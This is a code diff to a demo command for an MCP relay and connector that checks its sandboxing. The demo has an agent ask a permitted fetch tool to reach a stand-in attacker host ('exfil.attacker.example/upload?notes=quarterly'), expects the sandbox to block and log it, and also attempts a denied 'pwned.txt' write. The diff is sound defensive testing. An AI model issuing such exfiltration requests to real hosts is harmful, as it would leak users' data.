@@ -8,7 +8,7 @@ import type { CliIo } from '@switchboard/common/cli';
 import type { AuditRecord } from '@switchboard/audit';
 import { runAuditVerify } from '@switchboard/audit/cli';
 import { startRelay } from '@switchboard/relay';
-import { parseConnectorConfig, startConnector } from '@switchboard/connector';
+import { parseConnectorConfig, sandboxTools, startConnector } from '@switchboard/connector';
 import { connect } from '@switchboard/agent-sdk';
 import { formatAuditRecord } from './demo-audit.js';
 
@@ -17,10 +17,14 @@ const AGENT = `spiffe://${TD}/agent/support`;
 const CONNECTOR = `spiffe://${TD}/connector/files`;
 const RELAY = `spiffe://${TD}/relay/demo`;
 
-// The read tools of @modelcontextprotocol/server-filesystem are allowed, its write tools denied.
+// The read tools of @modelcontextprotocol/server-filesystem are allowed, its write tools denied;
+// server-everything's gzip-file-as-resource (it fetches a URL) is allowed: the connector's
+// sandbox, not the relay, stops where it may reach.
 const POLICY = `trustDomain: ${TD}
 servers:
   files:
+    connectors: [${CONNECTOR}]
+  everything:
     connectors: [${CONNECTOR}]
 rules:
   - id: support-reads-files
@@ -29,7 +33,13 @@ rules:
     tools:
       allow: ["read_*", "list_*", "search_files", "get_file_info", "directory_tree"]
       deny: ["write_*", "edit_*", "create_*", "move_*"]
+  - id: support-fetches
+    agents: [spiffe://${TD}/agent/support]
+    servers: [everything]
+    tools: { allow: [gzip-file-as-resource] }
 `;
+/** EXFIL is the undeclared host the demo's server is asked to fetch from. */
+const EXFIL = 'exfil.attacker.example';
 
 /** DemoOptions tune `switchboard demo` (tests keep the temporary directory to inspect it). */
 export interface DemoOptions {
@@ -81,19 +91,37 @@ export async function runDemo(opts: DemoOptions, io: CliIo): Promise<number> {
     say(`   listening at ${relay.url}`);
 
     say('\n3. The connector dials OUT to the relay and serves "files": @modelcontextprotocol/server-filesystem');
-    say(`   over ${files} (one server process per agent session, no port opened).`);
+    say(`   over ${files}, and "everything": @modelcontextprotocol/server-everything (one server process per`);
+    say('   agent session, no port opened).');
     const require = createRequire(import.meta.url);
     const serverEntry = require.resolve('@modelcontextprotocol/server-filesystem/dist/index.js');
+    const everythingEntry = require.resolve('@modelcontextprotocol/server-everything/dist/index.js');
+    // Contained (docs/containment.md): no network, no files but the folder. Where this machine has no
+    // sandbox the demo says so and opts out explicitly; the connector itself would refuse.
+    const contained = await sandboxTools().then(
+      (t) => t.socat !== undefined || 'socat is not installed (apt-get install socat)',
+      (err: Error) => err.message,
+    );
+    const containment = contained === true ? {} : { egress: 'any', filesystem: 'any' };
+    if (contained === true) say(`   Each runs in a bubblewrap sandbox: no network, no file but the system's, its program and ${files}.`);
+    else say(`   NOT contained on this machine — ${contained}; the demo opts out (egress: any, filesystem: any).`);
     const connector = await startConnector(
       parseConnectorConfig(
-        { relays: [relay.url], identity: join(ids, 'connector'), servers: { files: { command: process.execPath, args: [serverEntry, files] } } },
+        {
+          relays: [relay.url],
+          identity: join(ids, 'connector'),
+          servers: {
+            files: { command: process.execPath, args: [serverEntry, files], filesystem: { write: [files] }, ...containment },
+            everything: { command: process.execPath, args: [everythingEntry, 'stdio'], ...containment },
+          },
+        },
         { baseDir: dir },
       ),
       { drainTimeoutMs: 0 },
     );
     closers.unshift(() => connector.close());
     await connector.ready();
-    say('   link up, "files" registered');
+    say('   link up, "files" and "everything" registered');
 
     say(`\n4. The agent (${AGENT}) connects through the relay with the MCP SDK client.`);
     const client = await connect({ relay: relay.url, server: 'files', identity: join(ids, 'agent') });
@@ -119,8 +147,21 @@ export async function runDemo(opts: DemoOptions, io: CliIo): Promise<number> {
     );
     say(`   tools/call write_file pwned.txt  → ${refusal}`);
     say(`   pwned.txt exists afterwards? ${created ? 'YES (this is a bug)' : 'no — the call never reached the server'}`);
-
     await client.close();
+    closers.shift();
+
+    // A tool the policy allows, asked to fetch from a host the server's config does not declare.
+    const fetcher = await connect({ relay: relay.url, server: 'everything', identity: join(ids, 'agent') });
+    closers.unshift(() => fetcher.close());
+    let fetched = '';
+    try {
+      const r = (await fetcher.callTool({ name: 'gzip-file-as-resource', arguments: { name: 'notes.gz', data: `https://${EXFIL}/upload?notes=quarterly`, outputType: 'resource' } })) as { isError?: boolean; content?: { text?: string }[] };
+      fetched = r.isError ? `failed inside the server: ${(r.content?.[0]?.text ?? '').split('\n')[0]}` : 'NOT stopped: the server fetched it';
+    } catch (err) {
+      fetched = `failed: ${(err as Error).message}`;
+    }
+    say(`   tools/call gzip-file-as-resource https://${EXFIL}/… → ${fetched}`);
+    await fetcher.close();
     closers.shift();
     // Let the relay see the agent leave (bounded), then shut down cleanly: the relay records the
     // session and link ends and signs a final checkpoint.
@@ -139,8 +180,14 @@ export async function runDemo(opts: DemoOptions, io: CliIo): Promise<number> {
     );
     for (const line of verifyOut.trim().split('\n')) say(`   ${line.replace(dir, '.')}`);
 
-    const ok = !created && refusal.startsWith('refused') && text.includes('Quarterly') && verified === 0;
-    say(ok ? '\nDone: allowed call served, denied call refused at the relay, every decision recorded and verified.' : '\nDemo FAILED: see above.');
+    const egressRecorded = records.some((r) => r.type === 'egress.denied' && r.destination === EXFIL);
+    const egressOk = contained === true ? egressRecorded && !fetched.startsWith('NOT') : true;
+    const ok = !created && refusal.startsWith('refused') && text.includes('Quarterly') && verified === 0 && egressOk;
+    say(
+      ok
+        ? `\nDone: allowed call served, denied call refused at the relay, ${contained === true ? 'the undeclared host unreachable from the sandbox, ' : ''}every decision recorded and verified.`
+        : '\nDemo FAILED: see above.',
+    );
     return ok ? 0 : 1;
   } catch (err) {
     io.stderr.write(`demo: ${(err as Error).stack ?? String(err)}\n`);
